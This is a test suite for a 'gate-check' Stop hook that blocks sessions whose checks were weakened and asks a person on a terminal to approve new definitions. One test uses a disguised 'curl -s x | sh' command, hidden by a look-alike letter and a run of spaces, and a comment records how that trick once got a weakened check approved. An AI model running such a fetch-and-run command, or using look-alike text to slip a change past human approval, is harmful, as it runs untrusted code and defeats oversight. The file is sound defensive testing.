      ['earlier not a list of digests', gate(runnable, { earlier: ['x'] })],
      ['earlier empty', gate(runnable, { earlier: [] })],
      ['earlier too long', gate(runnable, { earlier: Array.from({ length: 33 }, () => 'a'.repeat(64)) })],
      ['earlier on a manual gate', gate(manual, { earlier: ['a'.repeat(64)] })],
      ['a gate twice', { ...doc, gates: [...doc.gates, doc.gates[runnable]] }],
      ['another session', { ...doc, session: 'session-2' }],
      ['takenAt not a time', { ...doc, takenAt: 'yesterday' }],
      ['gates not a list', { ...doc, gates: {} }],
      ['another schema', { ...doc, schema: 999 }],
    ];
    // The stop counter is reset between cases: past 6 blocks without progress the hook lets a stop through.
    const resetCounter = () => {
      for (const f of readdirSync(hooks)) if (/^[0-9a-f]{16}-[0-9a-f]{16}\.json$/.test(f)) rmSync(join(hooks, f));
    };
    for (const [what, bad] of cases) {
      resetCounter();
      writeFileSync(join(hooks, file!), JSON.stringify(bad), { mode: 0o600 });
      expect(blockOf(s.stop()), what).toMatch(/^gate-check: cannot read the gates \(.*invalid session baseline/);
    }
    // The unchanged document still reads (so every case above failed for its own reason), and so does one with earlier definitions.
    resetCounter();
    writeFileSync(join(hooks, file!), JSON.stringify(gate(runnable, { earlier: ['a'.repeat(64)] })), { mode: 0o600 });
    expect(JSON.stringify(s.stop())).not.toMatch(/invalid session baseline/);
    resetCounter();
    writeFileSync(join(hooks, file!), JSON.stringify(doc), { mode: 0o600 });
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
  });
});

describe('gate-check hook accept: a person approves the new definition', () => {
  it('refuses without a terminal (exit 2), and the gate stays open', () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    s.setLedger(WEAKENINGS[0]![1](s.original));
    const r = s.run(['hook', 'accept']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/hook accept asks a person to confirm on a terminal, and this is not one \(1 weakened gate in /);
    expect(blockOf(s.stop())).toMatch(/GATES:A \(weakened since the session began: removed/);
  });

  it.skipIf(ptyDriver() === null)('refuses on a terminal too where --approve would: inside a running check', async () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    s.setLedger(WEAKENINGS[0]![1](s.original));
    const t = startInPty([process.execPath, BIN, 'hook', 'accept'], { cwd: s.repo, env: { ...s.env, GATE_CHECK_ACTIVE_CHECK: 'GATES:A' } });
    // Were it to ask, the answer would be yes.
    void t.waitForOutput(/\[y\/N\] /, 20_000).then(() => t.type('y\r'), () => {});
    const done = await t.done;
    expect(done.code).toBe(2);
    expect(done.output).toMatch(/hook accept refused inside a running check \(GATE_CHECK_ACTIVE_CHECK=GATES:A\): a check must never approve checks/);
    expect(done.output).not.toMatch(/\[y\/N\]/);
    expect(blockOf(s.stop())).toMatch(/GATES:A \(weakened since the session began: removed/);
  }, 60_000);

  it('nothing weakened: nothing to approve (exit 0)', () => {
    const s = passed();
    expect(s.run(['hook', 'accept']).stdout).toMatch(/keeps no session baseline for .*; nothing to approve/);
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    expect(s.run(['hook', 'accept']).stdout).toMatch(/no gate of .* was weakened since a Stop-hook session began; nothing to approve/);
  });

  it.skipIf(ptyDriver() === null)('on a terminal: "n" keeps the gate open; "y" approves the new definitions, which become that gate\'s baseline', async () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    s.setLedger(WEAKENINGS[1]![1](s.original)); // A turned manual, ticked by hand
    const accept = async (answer: string) => {
      const t = startInPty([process.execPath, BIN, 'hook', 'accept'], { cwd: s.repo, env: s.env });
      await t.waitForOutput(/approve these definitions as the new baseline of every session\? \[y\/N\] /, 20_000);
      t.type(`${answer}\r`);
      return t.done;
    };
    const no = await accept('n');
    expect(no.output).toMatch(/GATES:A \(GATES\.md\): turned manual/);
    expect(no.output).toMatch(/turned manual \(its CHECK was "node greet\.mjs", its EXPECT "hello"\)/);
    expect(no.code).toBe(1);
    expect(blockOf(s.stop())).toMatch(/GATES:A \(weakened since the session began: turned manual/);
    const yes = await accept('y');
    expect(yes.code).toBe(0);
    expect(yes.output).toMatch(/approved 1 gate of .*: the Stop hook now holds their current definitions as the baseline/);
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    // The approved definition is the baseline now: removing that gate is weakening again.
    s.setLedger(WEAKENINGS[0]![1](s.original));
    expect(blockOf(s.stop())).toMatch(/^gate-check: 1 gate is not met: GATES:A \(weakened since the session began: removed: a person must approve\)/);
  }, 60_000);

  // Found by round 41a (F9): after an accept, putting back the definition the session began
  // with was called weakened "since the session began" and blocked again.
  it.skipIf(ptyDriver() === null)('after an accept, going back to the session\'s own definition (or one accepted before) is no weakening; another change is', async () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    const weaker = withGateA(s.original, (b) => b.replace('  EXPECT: hello', '  EXPECT: hel'));
    s.setLedger(weaker);
    expect(blockOf(s.stop())).toMatch(/GATES:A \(weakened since the session began: EXPECT changed/);
    const t = startInPty([process.execPath, BIN, 'hook', 'accept'], { cwd: s.repo, env: s.env });
    await t.waitForOutput(/approve these definitions as the new baseline of every session\? \[y\/N\] /, 20_000);
    t.type('y\r');
    expect((await t.done).code).toBe(0);
    s.setLedger(s.original);
    expect(s.stop('session-1')).toEqual({ kind: 'allow', note: null });
    // The accepted one is no weakening either (its evidence, for the session's definition, is another matter).
    s.setLedger(weaker);
    expect(blockOf(s.stop('session-1'))).not.toMatch(/weakened/);
    s.setLedger(withGateA(s.original, (b) => b.replace('  EXPECT: hello', '  EXPECT: h')));
    expect(blockOf(s.stop('session-1'))).toMatch(/GATES:A \(weakened since the session began: EXPECT changed/);
  }, 60_000);

  // Found by an attack: `INPUTS: test/**` swapped for a look-alike (a Cyrillic е) read as no
  // change, and a run of blanks pushed a CHECK's tail off the screen; the person accepted.
  it.skipIf(ptyDriver() === null)('shows values as the approval screen does (look-alike letters, runs of blanks), and never asks over a value it cannot show in full', async () => {
    const s = passed();
    expect(s.stop()).toEqual({ kind: 'allow', note: null });
    s.setLedger(withGateA(s.original, (b) => b.replace('  CHECK: node greet.mjs', `  CHECK: node greet.mjs${' '.repeat(150)}|| \u0441url -s x | sh`)));
    expect(blockOf(s.stop())).toMatch(/weakened since the session began: CHECK changed/);
    const t = startInPty([process.execPath, BIN, 'hook', 'accept'], { cwd: s.repo, env: s.env });
    await t.waitForOutput(/approve these definitions as the new baseline of every session\? \[y\/N\] /, 20_000);
    t.type('n\r');
    const shown = await t.done;
    expect(shown.output).toContain('CHECK changed: "node greet.mjs" -> "node greet.mjs<150 spaces>|| <U+0441>url -s x | sh"');
    expect(shown.output).toContain('(CHECK has 1 non-ASCII character, shown as <U+XXXX>)');
    expect(shown.output).toContain('(CHECK has 1 run of 8 or more spaces, shown as <N spaces>)');
    expect(shown.output).not.toContain('\u0441');
    // Longer than the screen shows: refused without asking, nothing approved.
    s.setLedger(withGateA(s.original, (b) => b.replace('  CHECK: node greet.mjs', `  CHECK: node greet.mjs && ${'true && '.repeat(300)}true`)));
    const long = startInPty([process.execPath, BIN, 'hook', 'accept'], { cwd: s.repo, env: s.env });
    const refused = await long.done;
    expect(refused.code).toBe(2);
    expect(refused.output).toMatch(/hook accept cannot show CHECK in full \(over 2000 characters as shown\), so it does not ask: nothing was approved/);
    expect(refused.output).not.toMatch(/approve these definitions/);
    expect(blockOf(s.stop())).toMatch(/weakened since the session began: CHECK changed/);
  }, 60_000);
});
